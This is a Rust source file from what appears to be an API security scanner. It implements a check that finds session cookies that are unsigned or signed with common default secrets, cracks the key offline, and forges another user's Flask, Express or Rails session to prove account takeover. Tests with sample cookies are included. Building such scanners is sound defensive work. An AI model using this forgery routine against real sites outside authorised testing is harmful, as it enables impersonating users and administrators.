//! VG434 session-cookie-forgery: the session cookie holds the session itself and nothing stops
//! a user from editing it — unsigned JSON, or signed with a key from the list of common and
//! default secrets (Flask's `SECRET_KEY = "dev"`, cookie-session's `keys: ['secret']`).
//!
//! The first identity's cookie is read ([`super::signed_cookies`]); a signed one's key is
//! searched offline (no request per guess). The session is then edited to name the second
//! identity (its id, username or e-mail in place of the first's), signed with the key found,
//! and sent without any other credential to the read that answers about the caller (`/me`,
//! `/profile`). Proven when the answer is the second identity's. A common key that signs the
//! cookie is a finding on its own: anyone can write any session with it.

use std::borrow::Cow;

use vibeguard_core::{
    ChecklistId, Confidence, EngineId, Finding, OwaspApi, RuleDocs, RuleMeta, Severity,
};

use super::signed_cookies::{self, SessionCookie};
use super::{Check, Context, IdentityView, Probe, http_evidence, jwt};
use crate::http::{Exchange, Request};
use crate::identity::Credential;
use crate::spec::Operation;

/// The check.
#[derive(Debug)]
pub struct SessionForgery;

static META: RuleMeta = RuleMeta {
    code: Cow::Borrowed("VG434"),
    name: Cow::Borrowed("session-cookie-forgery"),
    engine: EngineId::Api,
    summary: Cow::Borrowed(
        "The session cookie can be edited to become another user (unsigned, or signed with a common key)",
    ),
    severity: Severity::Critical,
    confidence: Confidence::Confirmed,
    cwe: Cow::Borrowed(&[565, 321, 287]),
    owasp_api: Some(OwaspApi::Api2BrokenAuthentication),
    checklist: Cow::Borrowed(&[ChecklistId::Auth04]),
    docs: RuleDocs {
        what: Cow::Borrowed(
            "Session cookies that carry the session itself are read: Flask's signed cookie \
             (itsdangerous), Django's signed-cookie sessions (`signed_cookies` engine), Express \
             cookie-session with its `.sig` cookie (keygrip), and unsigned base64 or JSON \
             cookies (`j:{…}` from `res.cookie`). A signed cookie's key \
             is searched offline in the same list of common and default secrets as JWT keys \
             (`dev`, `secret`, `changeme`, `keyboard cat`, framework defaults, …). The first \
             identity's session is then edited to name the second identity, signed with the \
             key found, and sent alone to the read that answers about the caller: the answer \
             being the second identity's proves the forgery. A common signing key is reported \
             even when no read proves it (Django's, whose session also carries a hash of the \
             user's password, can be signed but not moved to another user). Rails' encrypted \
             session cookie and `cookies.signed` values are tried with the list's first 2,000 \
             secrets as `secret_key_base` (a key derivation of 1,000 rounds each, SHA-1 and \
             SHA-256): an encrypted session found that way is opened, edited and sealed again. \
             Opaque session ids (Django's database sessions, express-session) are not subjects.",
        ),
        why: Cow::Borrowed(
            "Whoever can write the session cookie is whoever they write in it: any user, any \
             administrator, without a password.",
        ),
        example_bad: Cow::Borrowed("app.config['SECRET_KEY'] = 'dev'"),
        example_fixed: Cow::Borrowed(
            "app.config['SECRET_KEY'] = os.environ['SECRET_KEY']  # 32 random bytes",
        ),
        fix: Cow::Borrowed(
            "Sign sessions with a long random key from the environment (32 bytes from a \
             CSPRNG), never a default; keep server-side sessions (an opaque id) for anything \
             that must be revocable; never trust an unsigned cookie for who the user is.",
        ),
        references: Cow::Borrowed(&[
            Cow::Borrowed("https://flask.palletsprojects.com/en/stable/config/#SECRET_KEY"),
            Cow::Borrowed("https://cwe.mitre.org/data/definitions/565.html"),
        ]),
    },
};

const AS: &str = "as";
const FORGED: &str = "forged for";

/// The first identity whose session cookie vibeguard can read, with the cookie.
fn readable(context: &Context<'_>) -> Option<(usize, String, String, SessionCookie)> {
    context
        .identities
        .iter()
        .enumerate()
        .find_map(|(index, identity)| {
            let Credential::Cookie { name, value } = &identity.credential else {
                return None;
            };
            let signature = identity.session.as_ref().and_then(|s| {
                s.other_cookies
                    .iter()
                    .find(|(n, _)| *n == format!("{name}.sig"))
                    .map(|(_, v)| v.clone())
            });
            let cookie = signed_cookies::read(name, value, signature.as_deref())?;
            Some((index, name.clone(), value.clone(), cookie))
        })
}

/// The common secret that signs the cookie, searched once per cookie value: planning and
/// judging both need it, and a Rails key costs a thousand rounds per guess. (Held in memory
/// for the run only, never written anywhere.)
fn common_secret(cookie: &SessionCookie, name: &str, value: &str) -> Option<String> {
    use std::sync::{Mutex, PoisonError};
    static FOUND: Mutex<Vec<(String, Option<String>)>> = Mutex::new(Vec::new());
    if let Some((_, secret)) = FOUND
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
        .iter()
        .find(|(seen, _)| *seen == format!("{name}={value}"))
    {
        return secret.clone();
    }
    let secret = signed_cookies::find_secret(cookie, name, value, jwt::candidate_secrets().iter())
        .map(str::to_string);
    let mut found = FOUND.lock().unwrap_or_else(PoisonError::into_inner);
    // A run has a handful of identities: the oldest answers go first past that.
    if found.len() >= 16 {
        found.remove(0);
    }
    found.push((format!("{name}={value}"), secret.clone()));
    secret
}

/// What names an identity: its id, username and e-mail, in that order (empty when unknown).
fn names(identity: &IdentityView) -> Vec<String> {
    vec![
        identity.user_id.clone().unwrap_or_default(),
        identity.account.username.clone().unwrap_or_default(),
        identity.account.email.clone().unwrap_or_default(),
    ]
}

/// The read forged sessions are tried on: one that answers about the caller.
fn target(context: &Context<'_>) -> Option<Request> {
    context
        .own_record_request()
        .or_else(|| jwt::target_operation(context).map(|(_, request)| request))
}

/// Whether an answer names `identity` (its username or e-mail as a word).
fn names_identity(text: &str, identity: &IdentityView) -> bool {
    [&identity.account.username, &identity.account.email]
        .into_iter()
        .flatten()
        .filter(|name| name.len() >= 2)
        .any(|name| {
            text.match_indices(name.as_str()).any(|(at, _)| {
                let before = text[..at].chars().next_back();
                let after = text[at + name.len()..].chars().next();
                let word = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric() && c != '_');
                word(before) && word(after)
            })
        })
}

impl Check for SessionForgery {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn not_applicable(&self, context: &Context<'_>) -> Option<&'static str> {
        readable(context).is_none().then_some(
            "no identity's session cookie carries the session itself (an opaque session id, or no cookie session)",
        )
    }

    fn plan_target(&self, context: &Context<'_>) -> Vec<Probe> {
        let Some((own, name, value, cookie)) = readable(context) else {
            return Vec::new();
        };
        let Some(request) = target(context) else {
            return Vec::new();
        };
        let secret = match cookie {
            SessionCookie::Unsigned { .. } => None,
            _ => {
                match common_secret(&cookie, &name, &value) {
                    Some(secret) => Some(secret),
                    // Signed with a key nobody lists: nothing to forge.
                    None => return Vec::new(),
                }
            }
        };
        // An encrypted session is read with the key found.
        let cookie = match &secret {
            Some(secret) => signed_cookies::open(cookie, secret),
            None => cookie,
        };
        let mut probes = vec![Probe {
            label: format!("{AS} {own}"),
            identity: Some(own),
            request: request.clone(),
        }];
        let Some(other) = (0..context.identities.len()).find(|&i| i != own) else {
            return probes;
        };
        let (session, changed) = signed_cookies::swap_account(
            cookie.session(),
            &names(&context.identities[own]),
            &names(&context.identities[other]),
        );
        if !changed {
            return probes;
        }
        let mut forged = request.clone();
        let pairs: Vec<String> = signed_cookies::write(&cookie, &name, &session, secret.as_deref())
            .into_iter()
            .map(|(n, v)| format!("{n}={v}"))
            .collect();
        forged.headers.push(("Cookie".into(), pairs.join("; ")));
        probes.push(Probe {
            label: format!("{AS} {other}"),
            identity: Some(other),
            request,
        });
        probes.push(Probe {
            label: format!("{FORGED} {other}"),
            identity: None,
            request: forged,
        });
        probes
    }

    fn evaluate(
        &self,
        _operation: &Operation,
        results: &[(Probe, Exchange)],
        context: &Context<'_>,
    ) -> Vec<Finding> {
        let Some((own, name, value, cookie)) = readable(context) else {
            return Vec::new();
        };
        let unsigned = matches!(cookie, SessionCookie::Unsigned { .. });
        let secret = (!unsigned)
            .then(|| common_secret(&cookie, &name, &value))
            .flatten();
        if !unsigned && secret.is_none() {
            // Signed with a key nobody lists: nothing to report.
            return Vec::new();
        }
        let own_name = &context.identities[own].name;
        let proof = results.iter().find_map(|(probe, exchange)| {
            let other: usize = probe.label.strip_prefix(FORGED)?.trim().parse().ok()?;
            let identity = context.identities.get(other)?;
            let text = exchange.response().filter(|r| r.is_success())?.text();
            (names_identity(&text, identity) && !names_identity(&text, &context.identities[own]))
                .then_some((identity, exchange))
        });
        let key = secret.as_deref().map(jwt::masked);
        let how = match &key {
            Some(key) => format!("{} signed with a common key, {key}", cookie.kind()),
            None => cookie.kind().to_string(),
        };
        let location = vibeguard_core::Location::operation(
            "*",
            context.base.path(),
            Some(format!("cookie:{name}")),
        );
        let finding = match proof {
            Some((other, exchange)) => Finding::new(
                &META,
                location,
                format!(
                    "`{name}` is {how}: {own_name}'s session edited to name {} was taken as {}'s ({} {} answered with {}'s account)",
                    other.name,
                    other.name,
                    exchange.request.method,
                    exchange.request.url.path(),
                    other.name
                ),
                format!("forged:{name}"),
            )
            .with_evidence(http_evidence(exchange)),
            None if key.is_some() => Finding::new(
                &META,
                location,
                format!(
                    "`{name}` is {how}: anyone can write a session with it (no read proved a forged one: no second identity, or the session names no account)"
                ),
                format!("forged:{name}"),
            )
            .with_severity(Severity::High),
            None => return Vec::new(),
        };
        vec![finding]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::testing::{Fixture, exchange, identity, operation};
    use crate::identity::SessionState;

    const FLASK: &str =
        "eyJfdXNlcl9pZCI6IjEiLCJfZnJlc2giOnRydWV9.axVC4Q.cgaANn_kPMZA0WjHSqcPmlYwo8c";

    fn fixture(cookie: &str) -> Fixture {
        let mut fixture = Fixture::new();
        let mut ada = identity("ada", "1");
        ada.credential = Credential::Cookie {
            name: "session".into(),
            value: cookie.into(),
        };
        ada.session = Some(SessionState::default());
        let ben = identity("ben", "2");
        fixture.identities = vec![ada, ben];
        fixture.spec.operations = vec![operation("GET", "/api/me", true)];
        fixture
    }

    fn run(fixture: &Fixture, answer_forged: &str) -> Vec<Finding> {
        let context = fixture.context();
        let probes = SessionForgery.plan_target(&context);
        let results: Vec<(Probe, Exchange)> = probes
            .iter()
            .map(|p| {
                let body = if p.label.starts_with(FORGED) {
                    answer_forged.to_string()
                } else if p.label == format!("{AS} 0") {
                    r#"{"id":1,"username":"ada"}"#.to_string()
                } else {
                    r#"{"id":2,"username":"ben"}"#.to_string()
                };
                (
                    p.clone(),
                    exchange("GET", p.request.url.as_str(), 200, &[], &body),
                )
            })
            .collect();
        SessionForgery.evaluate(&Operation::whole_target(), &results, &context)
    }

    #[test]
    fn a_flask_cookie_signed_with_a_common_key_is_forged_into_another_user() {
        let fixture = fixture(FLASK);
        let context = fixture.context();
        let probes = SessionForgery.plan_target(&context);
        let forged = probes
            .iter()
            .find(|p| p.label.starts_with(FORGED))
            .expect("forged");
        assert_eq!(forged.identity, None);
        let cookie = forged.request.header_value("cookie").expect("cookie");
        let value = cookie.strip_prefix("session=").expect("session cookie");
        let read = signed_cookies::read("session", value, None).expect("readable");
        assert_eq!(read.session()["_user_id"], "2");
        let found = run(&fixture, r#"{"id":2,"username":"ben"}"#);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].message.contains("taken as ben's"),
            "{}",
            found[0].message
        );
        assert!(!found[0].message.contains("s3cr3t"), "the key is masked");
        // Refused: the weak key is still reported.
        let found = run(&fixture, r#"{"error":"log in"}"#);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::High);
    }

    #[test]
    fn a_strong_key_and_an_opaque_session_id_are_not_findings() {
        // The same session signed with a key no list holds.
        let strong = "eyJfdXNlcl9pZCI6IjEiLCJfZnJlc2giOnRydWV9.axVC4Q.AAAAAAAAAAAAAAAAAAAAAAAAAAA";
        let fixture = fixture(strong);
        assert!(SessionForgery.plan_target(&fixture.context()).is_empty());
        assert!(run(&fixture, r#"{"id":2,"username":"ben"}"#).is_empty());
        let fixture = fixture_opaque();
        assert!(SessionForgery.not_applicable(&fixture.context()).is_some());
    }

    fn fixture_opaque() -> Fixture {
        fixture("s%3Aq8Jd0.x9f2a")
    }

    /// Rails' session store wrote it (ActionPack 6.1, `secret_key_base = "secret"`) for
    /// `{"session_id": …, "user_id": 1, "_csrf_token": …}`.
    const RAILS: &str = "a0x5%2FUbLiSFvSR1ALnpjx6ZFG98ZF8ySPmi1l1Ryc4PYlvDz3%2FpkwZ0NoPwpTrEmbDMzRtsl6dP06eMIWfFw%2FgTXfl3N8hrdK6XbbWy2MRk9LTsaoJVCyKmnhZE%2F%2BJoMeMyf1fZrxciGArI%2B5HKTwo6yTtn9hD5Okkw3GV0ZS9vLhhl0sVF1EKu8z%2BXpA1zSbayqlJ1VHZmndBytJn%2F5emPqFkwF%2BTX93eswVWJmzG9e5uIOWewuvnfIKjqsMZAxRtoPXB9T6qi2Clh0x%2Bn6J%2FpdF6Lx0hVfR8FYxnv%2FViGTjGI%2BpA%3D%3D--o2Dc4ixqtXRnYFRd--lNh4zMbbWkVFqJNmq2M52Q%3D%3D";

    #[test]
    fn a_rails_session_encrypted_under_a_common_key_is_opened_and_forged() {
        let fixture = fixture(RAILS);
        let probes = SessionForgery.plan_target(&fixture.context());
        let forged = probes
            .iter()
            .find(|p| p.label.starts_with(FORGED))
            .expect("forged");
        let cookie = forged.request.header_value("cookie").expect("cookie");
        let value = cookie.strip_prefix("session=").expect("session cookie");
        let sealed = super::super::rails_cookies::read_encrypted(value).expect("encrypted");
        let (session, _, _) = super::super::rails_cookies::open(&sealed, "secret").expect("opens");
        assert_eq!(session["user_id"], 2);
        let found = run(&fixture, r#"{"id":2,"username":"ben"}"#);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].message.contains("Rails' encrypted session cookie"),
            "{}",
            found[0].message
        );
        // The same kind of cookie under a key no list holds (a tag that no key opens).
        let strong = RAILS.replace("--lNh4zMbb", "--AAAAAAAA");
        let unopened = super::tests::fixture(&strong);
        assert!(SessionForgery.plan_target(&unopened.context()).is_empty());
        assert!(run(&unopened, r#"{"id":2,"username":"ben"}"#).is_empty());
    }

    #[test]
    fn an_unsigned_cookie_is_edited_without_any_key() {
        use base64::Engine as _;
        let session =
            base64::engine::general_purpose::STANDARD.encode(r#"{"userId":"1","name":"ada"}"#);
        let fixture = fixture(&session);
        let found = run(&fixture, r#"{"id":2,"username":"ben"}"#);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].message.contains("an unsigned session cookie"),
            "{}",
            found[0].message
        );
        // Not proven and nothing signed: nothing to say.
        assert!(run(&fixture, r#"{"id":1,"username":"ada"}"#).is_empty());
    }
}
